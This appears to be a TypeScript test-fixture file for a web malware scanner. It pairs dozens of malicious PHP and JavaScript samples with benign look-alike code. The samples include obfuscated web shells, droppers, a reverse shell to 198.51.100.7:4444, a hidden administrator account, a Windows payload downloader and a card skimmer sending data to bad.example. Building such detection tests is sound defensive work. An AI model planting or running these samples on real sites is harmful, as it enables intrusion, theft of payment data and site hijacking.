import { deflateRawSync } from 'node:zlib';
import type { Named } from './index.ts';

const base64 = (text: string) => Buffer.from(text).toString('base64');
const packed = (text: string) => deflateRawSync(text).toString('base64');
const hex = (text: string) => [...text].map((char) => `\\x${char.charCodeAt(0).toString(16)}`).join('');
const chr = (text: string) => [...text].map((char) => `chr(${char.charCodeAt(0)})`).join('.');
const percent = (text: string) => [...text].map((char) => `%${char.charCodeAt(0).toString(16)}`).join('');

/** Built at run time from harmless pieces, so that no live shell lies in the tree. */
const RUN = 'eval($_POST["c"]);';

export const MALICIOUS_CODE: Named = {
  'request input to eval': `<?php @${RUN}`,
  'a layer of base64': `<?php eval(base64_decode('${base64(RUN)}'));`,
  'two layers, the inner one compressed': `<?php eval(base64_decode('${base64(`eval(gzinflate(base64_decode('${packed(RUN)}')));`)}'));`,
  'the name in chr()': `<?php $f=${chr('assert')}; $f($_REQUEST['x']);`,
  'the name in hexadecimal escapes': `<?php $f="${hex('system')}"; $f($_GET['x']);`,
  'the name reversed': `<?php $f=strrev('metsys'); $f($_COOKIE['x']);`,
  'the name from an alphabet': `<?php $a='abcdefghijklmnopqrstuvwxyz'; $f=$a[18].$a[24].$a[18].$a[19].$a[4].$a[12]; $f($_GET[0]);`,
  'the name by exclusive or': `<?php $f=("!"^"@").("3"^"@").("3"^"@").("%"^"@").("2"^"@").("4"^"@"); $f($_POST['x']);`,
  'the superglobal hidden': `<?php \${'_'.'GE'.'T'}['f'](\${'_'.'GE'.'T'}['c']);`,
  'a function named by the request': `<?php $_GET['f']($_GET['c']);`,
  'a callback': `<?php array_map('assert', (array)$_POST['x']);`,
  'a callback named by the request': `<?php usort($a, $_GET['f']);`,
  'a function of its own': `<?php function run($code) { return eval($code); } run(stripslashes($_POST['x']));`,
  'a decoder of its own': `<?php function d($s){$o='';for($i=0;$i<strlen($s);$i++){$o.=chr(ord($s[$i])^7);}return $o;} eval(d(file_get_contents('x')));`,
  'modifier e': `<?php preg_replace('/.*/e', $_POST['x'], '');`,
  'a command in back-ticks': '<?php echo `{$_GET["c"]}`;',
  'a command through a variable': `<?php $c = trim($_REQUEST['c']); echo shell_exec($c . ' 2>&1');`,
  'an include of input': `<?php include('php://input');`,
  'an include of an icon': `<?php @include "${hex('/home/site/public_html/img/favicon_a1b2c3.ico')}";`,
  'a dropper': `<?php file_put_contents($_POST['name'], base64_decode($_POST['body']));`,
  'an upload without a check': `<?php if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); }`,
  'code fetched and run': `<?php eval(file_get_contents('http://files.example/x.txt'));`,
  'code hidden in a text': `<?php $x='${base64(`<?php ${RUN}`)}'; file_put_contents('cache.php', base64_decode($x));`,
  'a file manager': `<?php $d=$_GET['d']; foreach(scandir($d) as $f) echo $f; if(isset($_GET['r'])) unlink($_GET['r']); if(isset($_GET['v'])) readfile($_GET['v']);`,
  'a mailer': `<?php for($i=0;$i<9;$i++) mail($_POST['to'], $_POST['subject'], $_POST['text']);`,
  'a reverse shell': `<?php $s=fsockopen('198.51.100.7',4444); $p=proc_open('/bin/sh -i', array(0=>$s,1=>$s,2=>$s), $pipes);`,
  'scrambled with goto': `<?php ${Array.from({ length: 12 }, (_, i) => `goto l${i}; l${i}:`).join(' ')} $x=$_GET['a'];`,
  'a function named by the request behind a prefix of nothing': `<?php $f = 'sys' . $_GET['f']; $f($_GET['c']);`,
  'a function named by the request, looked up by a statement that throws the answer away': `<?php in_array($_GET['f'], array('list')); $_GET['f']($_GET['c']);`,
  'a list that is checked for another name than is called': `<?php $f = $_POST['a']; if (in_array($f, array('list'))) { } $f = $_POST['b']; $f($_POST['c']);`,
  'arguments spread from the request': '<?php usort(...$_GET);',
  'callbacks of YAML': `<?php yaml_parse($y, 0, $n, array('!x' => 'preg_replace'));`,
  'a variable that only the request sets': '<?php @eval($cmd);',
  'a name of the trade in what runs commands': `<?php /* web shell by nobody */ echo shell_exec($_GET['c']);`,
  'the name of a web shell beside a packed text': `<?php $a = 'FilesMan'; $b = '${packed('0123456789abcdefghijklmnopqrstuvwxyz'.repeat(3)).padEnd(1200, 'Qz7w')}';`,
  'an administrator with a known password': `<?php $id = wp_create_user('support', 'p4ss', 'a@b.example'); $u = new WP_User($id); $u->set_role('administrator');`,
  'an upload under the name that it came with': `<?php function keep() { move_uploaded_file($_FILES['f']['tmp_name'], __DIR__ . '/' . $_FILES['f']['name']); } keep();`,
  'guards in a branch before the file is written': `<?php if (0) { current_user_can('x'); check_ajax_referer('x'); } file_put_contents($_POST['n'], $_POST['b']);`,
  'PHP that is put together for a file': `<?php $a = '<?php @eval($' . '_POST' . '["c"]);'; file_put_contents(__DIR__ . '/a.php', $a);`,
  'JSON into a PHP file': `<?php file_put_contents('log.php', json_encode($_POST));`,
  'a method of a Windows object': `<?php $s = new COM('WScript.Shell'); $e = $s->exec('cmd /c ' . $_GET['c']);`,
  'modifier e with what was matched in double quotes': `<?php preg_replace('/(.*)/e', 'strtolower("$1")', $_POST['x']);`,
  'modifier e with a function that runs what was matched': `<?php preg_replace('/(.*)/e', "assert('$1')", $_POST['x']);`,
  'a decoder under a name of two pieces, and its result run': `<?php $f = 'base64' . '_decode'; eval($f('${base64('phpinfo();')}'));`,
  'a command under a name of two pieces': `<?php $f = 'sys' . 'tem'; $f('id');`,
  'a function that includes what it is given': `<?php function load($f) { include $f; } load($_GET['f']);`,
  'an upload whose ending may be that of a program': `<?php $e = pathinfo($_POST['n'], PATHINFO_EXTENSION); if (!in_array($e, array('zip', 'php'))) { exit; } move_uploaded_file($_FILES['f']['tmp_name'], DIR . $n);`,
  'a page for commands on the network': `<?php $c = array('ifconfig', 'netstat -an', 'ipconfig', 'whoami', 'uname -a'); passthru($c[(int) $_GET['i']]);`,
  'code in many short texts': `<?php $parts = array(${Array.from(
    { length: 40 },
    (_, i) =>
      `'${packed(`${i}${RUN}`.repeat(i + 1))
        .padEnd(60, 'Qz7w')
        .slice(0, 60)}'`,
  ).join(',')}); load($parts);`,
  'script: decoded and run': `eval(unescape("${percent('document.location="http://bad.example/"; var a = 1;')}"));`,
  'script: character codes': `eval(String.fromCharCode(${[...'window.location="http://bad.example/";'].map((char) => char.charCodeAt(0)).join(',')}));`,
  'script: a downloader for Windows': `var s = new ActiveXObject("WScr"+"ipt.Sh"+"ell"); var x = new ActiveXObject("MSXML2.XM"+"LHTTP"); x.open("GET","http://bad.example/a.exe"); var t = new ActiveXObject("ADO"+"DB.Stream"); t.SaveToFile("%TEMP%\\\\a.exe"); s.Run("cmd /c start %TEMP%\\\\a.exe");`,
  'script: a skimmer': `document.addEventListener('submit', function(){ var d = {n: document.querySelector('[name=cardnumber]').value, c: document.querySelector('#cvv').value, e: document.querySelector('#expiry').value}; new Image().src = 'https://cdn.bad.example/p.gif?d=' + btoa(JSON.stringify(d)); });`,
  'script: a miner': `var miner = new CoinHive.Anonymous('key'); miner.start();`,
  'script: packed': `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('0.1("<2 3=\\\\"4://5.6/\\\\" 7=0 8=0></2>")',9,9,'document|write|iframe|src|http|bad|example|width|height'.split('|'),0,{}))`,
  'script: pieces with names of their own': `${Array.from({ length: 30 }, (_, i) => `var a${i}="x(${i}";`).join('')}`,
  'script: pieces in a table': `var m={${Array.from({ length: 60 }, (_, i) => `k${i}:"ev${i % 10}"`).join(',')}};run(m);`,
  'script: pieces in a list': `run([${Array.from({ length: 60 }, (_, i) => `"x(${i % 10};"`).join(',')}]);`,
  'script: an alphabet in a list': `var a=[${Array.from({ length: 150 }, (_, i) => `"q${i % 20}"`).join(',')}];run(a);`,
  'script: a text with signs between its characters': `run("${[...'document.location = "x";'.replaceAll('"', "'").repeat(10)].join('#')}");`,
  'script: a text with spaces between its words of code': `run("${'Zf           Vr           QFk           '.repeat(12)}");`,
  'script: a long text that is run beside the names of a bundler': `var __webpack_require__ = 1; eval("${'const value = 1; '.repeat(20)}");`,
  'script: a hidden frame in a module that is cut off': `(function(t, e, __webpack_require__) {\neval("document.write('<iframe src=\\"http://bad.example/\\" width=\\"1\\" height=\\"1\\"></iframe>'); var a`,
  'script: a hidden frame': `document.write('<iframe src="http://bad.example/" width="1" height="1" style="visibility:hidden"></iframe>');`,
  'page: a hidden frame': `<html><body><iframe src="http://bad.example/in.php" width=0 height=0></iframe></body></html>`,
  'rules: visitors from search engines': `RewriteEngine On\nRewriteCond %{HTTP_REFERER} (google|bing|yahoo) [NC]\nRewriteRule .* http://bad.example/ [R=302,L]`,
};

export const CLEAN_CODE: Named = {
  'a plugin': `<?php
/**
 * Plugin Name: Opening hours
 */
if ( ! defined( 'ABSPATH' ) ) { exit; }
add_action( 'admin_post_save_hours', 'hours_save' );
function hours_save() {
  if ( ! current_user_can( 'manage_options' ) || ! check_admin_referer( 'hours' ) ) { wp_die(); }
  update_option( 'hours', array_map( 'sanitize_text_field', wp_unslash( $_POST['hours'] ) ) );
  wp_safe_redirect( admin_url( 'options-general.php?page=hours' ) );
}`,
  'a template': `<?php get_header(); while ( have_posts() ) : the_post(); ?><h1><?php the_title(); ?></h1><?php endwhile; get_footer();`,
  'a query with parameters': `<?php $rows = $wpdb->get_results( $wpdb->prepare( "SELECT * FROM {$wpdb->posts} WHERE ID = %d", intval( $_GET['id'] ) ) );`,
  'decoding that runs nothing': `<?php $data = json_decode( base64_decode( $_COOKIE['prefs'] ), true ); echo esc_html( $data['theme'] ?? 'light' );`,
  'an autoloader': `<?php spl_autoload_register(function ($class) { $file = __DIR__ . '/src/' . str_replace('\\\\', '/', $class) . '.php'; if (is_file($file)) { require $file; } });`,
  'a command without input': `<?php $version = trim(shell_exec('git describe --tags'));`,
  callbacks: `<?php $names = array_map('trim', explode(',', $list)); usort($names, function ($a, $b) { return strcmp($a, $b); }); call_user_func_array(array($this, 'render'), $names);`,
  'words of security in prose': `<?php /* Blocks uploads of shells and SQL injection attempts. */ function is_blocked($name) { return in_array($name, array('phtml', 'phar'), true); }`,
  'an action named by the request behind a prefix': `<?php $f = str_replace('shop_', '', $_POST['action']); call_user_func('shop::ajax_' . $f . '_callback');`,
  'a function from a list': `<?php $f = $_GET['sort']; if (in_array($f, array('by_name', 'by_date'), true)) { $f($rows); }`,
  'a file whose name is checked as a whole': `<?php if (preg_match('~^[a-z]+$~', $_GET['part'])) { readfile($_GET['part']); }`,
  'a template with values from elsewhere': `<?php if (isset($data['title'])) { echo esc_html($data['title']); } call_user_func($data['content']);`,
  'a command that nobody can change, through a variable': `<?php $run = $choice ?: 'shell_exec'; $run('composer install --no-dev');`,
  'words of the trade in settings': `<?php $labels = array('scan' => __('Scan for backdoors and web shells, such as a reverse shell', 'x'));`,
  'a table of characters': `<?php static $data = array (\n${'  "#" => "%",\n'.repeat(40)}); $result = &$data; unset($data); return $result;`,
  'names with an abbreviation': `<?php $w3x_a = 1; $w3x_b = 2; $w3x_c = 3; $w3x_d = 4; $w3x_e = 5; $w3x_f = 6; echo $w3x_a + $w3x_b + $w3x_c + $w3x_d + $w3x_e + $w3x_f;`,
  'a unit test with a shell in it': `<?php class T extends TestCase { function testRefuses() { $this->assertFalse(is_image('<?php system($_GET["c"]);')); $this->assertFalse(is_image('')); $this->assertTrue(is_image('GIF89a')); } }`,
  'a user of a unit test': `<?php class T extends TestCase { function setUp() { $this->id = wp_create_user('test', 'password', 'a@b.example'); } }`,
  'an upload in a library': `<?php class Upload { public function move($to) { return move_uploaded_file($this->path, $to); } }`,
  'a file written by who may and meant to': `<?php function save() { check_ajax_referer('save'); if (current_user_can('manage_options')) { file_put_contents(DIR . $_POST['name'], stripslashes($_POST['css'])); } } add_action('wp_ajax_save', 'save');`,
  'JSON into a file of data': `<?php file_put_contents('searches.json', json_encode($_POST['search']));`,
  'a firewall that installs itself': `<?php $rules = "php_value auto_prepend_file '$path'\\n"; insert_with_markers($file, 'Firewall', $rules);`,
  'a part of a query kept apart': `<?php parse_str($_COOKIE['options'], $options); echo (int) $options['rows']; $page->show();`,
  'a method that is called exec': `<?php $result = $this->files->exec($_POST['cmd'], $_POST);`,
  'lengths of texts counted again': `<?php $d = preg_replace('!s:(\\d+):"(.*?)";!e', "'s:'.strlen('$2').':\\"$2\\";'", stripcslashes($_POST['d']));`,
  'a decoder that checkers of themes do not like': `<?php class Api { static function decode($input) { $fn = 'base64' . '_decode'; return $fn(strtr($input, '-_', '+/')); } }`,
  'a template that is given what the request says': `<?php function load($args) { $path = DIR . '/templates/' . $args['template']; include $path; } load(array('template' => 'codes.php', 'back' => $_POST['back']));`,
  'chunks of an archive': `<?php $info = pathinfo($name); $kinds = array('zip'); if (!in_array(strtolower($info['extension']), $kinds)) { exit; } $part = file_get_contents($_FILES['part']['tmp_name']); file_put_contents($target, $part, FILE_APPEND);`,
  'addresses of the network cards': `<?php if (strpos(ini_get('disable_functions'), 'passthru') === false) { switch (PHP_OS) { case 'WINNT': passthru('ipconfig /all'); break; case 'Darwin': passthru('ifconfig'); break; default: passthru('netstat -ie'); } }`,
  'a list of classes': `<?php $base = dirname(__DIR__); return array(${Array.from({ length: 40 }, (_, i) => `'Shop_Class_${i}' => $base . '/includes/payment-methods/class-shop-payment-method-number.php'`).join(',')});`,
  'script: a module': `import { render } from './render.js';\nconst items = document.querySelectorAll('.item');\nfor (const item of items) item.addEventListener('click', () => render(item.dataset.id));`,
  'script: minified': `!function(e,t){"object"==typeof exports&&"undefined"!=typeof module?module.exports=t():e.widget=t()}(this,function(){"use strict";return function(e){return e&&e.length?e.map(function(e){return e.id}):[]}});`,
  'script: a fetch': `fetch('/wp-json/wp/v2/posts').then((r) => r.json()).then((posts) => { document.title = posts[0].title.rendered; });`,
  'script: analytics': `window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);} gtag('js', new Date()); gtag('config', 'G-000000');`,
  'script: a packed library': `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('0.1.2=3(4){5 4*4}',6,6,'jQuery|easing|square|function|t|return'.split('|'),0,{}))`,
  'script: markup with attributes': `const Icon = () => (<svg width="58" height="69" fill="none">${'<rect x="9.3" y="66.0" width="5.8" height="4.3" fill="black" />'.repeat(12)}</svg>);`,
  'script: labels in another language': `!function(){var l={${Array.from({ length: 20 }, (_, i) => `k${i}:"${'\\u0623\\u0636\\u0641'.repeat(4)}"`).join(',')}};register(l)}();`,
  'script: labels through a translator': `${Array.from({ length: 20 }, (_, i) => `(0,i.__)("Label ${i}","shop");`).join('')}`,
  'script: signs of a language': `var signs={${[...'abcdefghijklmnopqrstuvwxyz'].map((c) => `".${c}${c}":"builtin",";${c}":"builtin"`).join(',')}};`,
  'script: a module of a bundle for development': `eval("${'const value = 1; '.repeat(20)}\\n//# sourceURL=webpack://shop/./a.js?");`,
  'script: a module behind the names of many loaders': `eval("${'const value = 1; '.repeat(20)}\\n//# sourceURL=webpack://shop/./a.vue?${'./loader.js!'.repeat(60)}");`,
  'script: a module that is cut off': `(function(t, e, __webpack_require__) {\neval("${'const value = 1; '.repeat(20)}`,
  'script: a module with a frame and a hidden list': `eval("show('<iframe src=' + address + '></iframe>'); show('<ul style=display:none></ul>');\\n//# sourceURL=webpack://shop/./a.js?");`,
  'script: letters without accents': `var plain={${Array.from({ length: 60 }, (_, i) => `${String.fromCharCode(0xc0 + i)}:"A"`).join(',')}};register(plain);`,
  'script: names of characters': `var names=[${Array.from({ length: 60 }, (_, i) => `"&a${i};"`).join(',')}];register(names);`,
  'script: data with labels': `const fonts={${Array.from({ length: 60 }, (_, i) => `"f${i}":{"sizes":["400","700"],"kinds":["a","b"]}`).join(',')}};`,
  'script: a list that leaves items out': `var table="${'lc,,34,,,7n,7,,2t,,,b,1c,,'.repeat(12)}".split(",");register(table);`,
  'script: a style sheet that is indented': `add("${'\\n                        .a {\\n                            color: red;\\n                        }'.repeat(8)}");`,
  'script: card fields in the frame of a bank': `var n=bank.create("cardNumber"),e=bank.create("cardExpiry"),c=bank.create("cardCvc");n.mount("#card");jQuery.ajax({url:"/pay",data:JSON.stringify({order:7})});`,
  'script: a frame for a download': `jQuery('<iframe style="display:none" name="'+id+'">').appendTo('body');`,
  'page: a frame without margins': `<html><body><iframe src="https://video.example/1" width="100%" height="100%" marginwidth="0" marginheight="0"></iframe></body></html>`,
  page: `<!doctype html><html><head><title>Hello</title></head><body><iframe src="https://www.youtube.com/embed/x" width="560" height="315"></iframe></body></html>`,
  'rules: permalinks': `RewriteEngine On\nRewriteBase /\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule . /index.php [L]`,
};
